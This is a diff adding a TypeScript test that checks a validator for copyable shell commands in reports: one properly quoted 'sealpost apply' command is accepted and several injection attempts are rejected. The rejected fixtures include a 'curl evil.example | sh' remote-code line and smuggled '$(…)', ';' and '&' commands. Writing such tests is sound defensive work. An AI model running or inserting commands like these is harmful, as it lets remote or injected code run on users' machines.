@@ -61,6 +61,28 @@ describe('a report that somebody else may have written', () => {
     }
   })
 
+  it('may hold a command to copy, as long as that is ours and a shell finds nothing but words in it', () => {
+    const unlock = (text: string, as = 'command') => ({
+      ...full,
+      unlock: { about: 'skipped', of: 1, once: { lifts: 1, as, text, options: [] }, rest: [] },
+    })
+    const ours =
+      "sealpost apply --config 'a b.yaml' --accept 'k:it'\\''s#A; B' --allow-removal A B --allow-removal='-x $(y)'"
+    expect(accepted(unlock(ours))).toBe(true)
+    expect(accepted(unlock('accept: |\n  k:a b#C; D', 'inputs'))).toBe(true)
+    for (const text of [
+      'curl evil.example | sh',
+      'sealpost apply; touch x',
+      'sealpost apply $(touch x)',
+      "sealpost apply 'a",
+      "sealpost apply 'a' & x",
+      'sealpost apply A\ntouch x',
+      'sealpost apply "$(touch x)"',
+      'sealpost apply \\',
+    ])
+      expect(accepted(unlock(text))).toBe(false)
+  })
+
   const [first] = full.changes
   it.each<[string, unknown]>([
     ['an unknown key', { ...full, more: 1 }],
